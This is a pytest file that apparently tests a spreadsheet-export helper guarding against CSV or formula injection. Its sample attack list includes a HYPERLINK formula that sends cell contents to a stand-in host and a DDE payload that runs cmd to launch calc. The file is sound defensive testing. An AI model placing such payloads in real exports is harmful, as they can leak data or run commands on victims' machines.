"""Spreadsheet formula injection (OWASP CSV injection): the one export helper."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from getelec.core.exports import csv_bytes, neutralise, workbook_bytes

pytestmark = pytest.mark.pure

ATTACKS = [
    '=HYPERLINK("http://x.invalid/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =2+2",  # an import that trims spaces would see "=2+2"
    "\n=4+4",
    "\u3000=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_would_be_a_formula_gets_a_leading_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["更换老旧导线", "整改：=号后面", "", -5, -2.5, 0, 12, dt.date(2026, 1, 2), None, True],
)
def test_other_values_keep_their_type_and_value(value: object) -> None:
    assert neutralise(value) == value and type(neutralise(value)) is type(value)


def test_a_workbook_keeps_attacks_as_text_and_numbers_as_numbers() -> None:
    wb = Workbook()
    ws = wb.active
    ws.append(ATTACKS)
    ws.append([-5, 3.5, "-5"])
    ws.cell(3, 1).value = "=1+1"  # written without append
    second = wb.create_sheet("two")
    second["B2"] = "@cmd"
    loaded = load_workbook(io.BytesIO(workbook_bytes(wb)))
    first = loaded.worksheets[0]
    # (XML reads a carriage return back as a line feed)
    assert [c.value for c in first[1]] == ["'" + a.replace("\r", "\n") for a in ATTACKS]
    assert all(c.data_type == "s" for c in first[1])
    assert [c.value for c in first[2]][:3] == [-5, 3.5, "'-5"]
    assert first.cell(3, 1).value == "'=1+1" and first.cell(3, 1).data_type == "s"
    assert loaded.worksheets[1]["B2"].value == "'@cmd"


def test_a_csv_keeps_attacks_as_text() -> None:
    data = csv_bytes(["列", "=head"], [[a, -5] for a in ATTACKS])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["列", "'=head"]
    assert [r[0] for r in rows[1:]] == ["'" + a for a in ATTACKS]
    assert [r[1] for r in rows[1:]] == ["-5"] * len(ATTACKS)


def test_every_spreadsheet_writer_goes_through_the_helper() -> None:
    """No module but getelec/core/exports.py saves a workbook or writes CSV itself."""
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bwb\.save\(|\.save\(\s*(out|buf)")
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and path != root / "core" / "exports.py"
        and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
